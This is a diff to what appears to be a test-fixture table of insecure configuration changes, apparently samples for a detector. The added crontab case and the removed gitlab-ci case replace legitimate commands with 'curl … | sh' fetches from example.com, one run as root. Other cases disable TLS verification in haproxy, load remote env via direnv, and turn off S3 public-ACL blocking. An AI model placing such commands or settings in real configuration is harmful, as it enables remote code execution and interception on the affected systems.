@@ -80,17 +80,6 @@ ALTER TABLE accounts ADD COLUMN note text;
 COMMIT;`,
   ],
   [
-    'terraform',
-    'infra/bucket.tf',
-    `
-resource "aws_s3_bucket_public_access_block" "data" {
-  bucket = aws_s3_bucket.data.id
-«  block_public_acls = true
-»  block_public_acls = false
-  ignore_public_acls = true
-}`,
-  ],
-  [
     'github-workflow',
     '.github/workflows/greet.yml',
     `
@@ -115,18 +104,6 @@ pipeline {
 »    sh "build $BRANCH_NAME"
   } } }
 }`,
-  ],
-  [
-    'gitlab-ci',
-    '.gitlab-ci.yml',
-    `
-stages: [test]
-test:
-  stage: test
-  script:
-«    - ./test.sh
-»    - curl http://example.com/test.sh | sh`,
-    'services/api/.gitlab-ci.yml',
   ],
   [
     'nginx',
@@ -176,5 +153,23 @@ layout node
 «dotenv
 »source_url "http://example.com/env" ""`,
     'services/api/.envrc',
+  ],
+  [
+    'crontab',
+    'deploy/crontab',
+    `
+MAILTO=ops@example.com
+«0 3 * * * root /usr/local/bin/backup
+»0 3 * * * root curl -s http://example.com/backup.sh | sh`,
+  ],
+  [
+    'haproxy',
+    'deploy/haproxy.cfg',
+    `
+frontend web
+  bind :443 ssl crt /etc/ssl/site.pem
+backend api
+«  server one 10.0.0.5:443 ssl verify required ca-file /etc/ssl/ca.pem
+»  server one 10.0.0.5:443 ssl verify none`,
   ],
 ];
